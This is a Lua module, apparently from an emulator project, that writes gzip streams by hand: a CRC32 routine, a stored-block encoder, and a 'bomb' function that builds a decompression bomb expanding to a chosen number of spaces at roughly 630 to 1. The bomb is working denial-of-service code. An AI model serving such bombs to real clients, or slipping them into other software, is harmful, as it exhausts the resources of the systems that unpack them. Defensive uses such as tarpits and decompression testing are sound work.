--- gzip without a compressor: stored blocks, and a bomb put together from one compressed block of zeros.
-- RFC 1951 (deflate) and RFC 1952 (gzip).
-- @module cognito.emulator.deflate

local M = {}

local HEAD = "\31\139\8\0\0\0\0\0\0\255"

local TABLE = {}
for n = 0, 255 do
  local c = n
  for _ = 1, 8 do c = c & 1 == 1 and 0xEDB88320 ~ (c >> 1) or c >> 1 end
  TABLE[n] = c
end

local function crc32(text)
  local c = 0xFFFFFFFF
  for i = 1, #text do c = TABLE[(c ~ text:byte(i)) & 255] ~ (c >> 8) end
  return c ~ 0xFFFFFFFF
end

local function stored(text)
  local out = {}
  for i = 1, #text, 65535 do
    local piece = text:sub(i, i + 65534)
    out[#out + 1] = string.pack("<BI2I2", i + 65535 > #text and 1 or 0, #piece, ~#piece & 0xFFFF) .. piece
  end
  return #out > 0 and table.concat(out) or "\1\0\0\255\255"
end

--- @tparam string text
-- @treturn string the text as a gzip member of stored blocks
function M.gzip(text)
  return HEAD .. stored(text) .. string.pack("<I4I4", crc32(text), #text)
end

-- Writes bits, lowest first.
local function bit_writer()
  local out, hold, count = {}, 0, 0
  local self = {}
  function self.put(value, width)
    hold, count = hold | value << count, count + width
    while count >= 8 do out[#out + 1] = string.char(hold & 255); hold, count = hold >> 8, count - 8 end
  end
  function self.done()
    if count > 0 then out[#out + 1] = string.char(hold & 255) end
    return table.concat(out)
  end
  return self
end

--- A gzip member that unpacks to so many spaces at about 630 to 1: one literal, then copies of 258 bytes by the fixed
-- Huffman code (length code 285 is the eight bits 11000101, distance 1 five zero bits).
-- @tparam integer size
function M.bomb(size)
  local bits = bit_writer()
  bits.put(1, 1); bits.put(1, 2)
  bits.put(0x0A, 8)                    -- literal 32 is the code 01010000, sent from its highest bit
  for _ = 1, (size - 1) // 258 do bits.put(0xA3, 8); bits.put(0, 5) end
  bits.put(0, 7)
  return HEAD .. bits.done() .. string.pack("<I4I4", 0, size & 0xFFFFFFFF)
end

return M
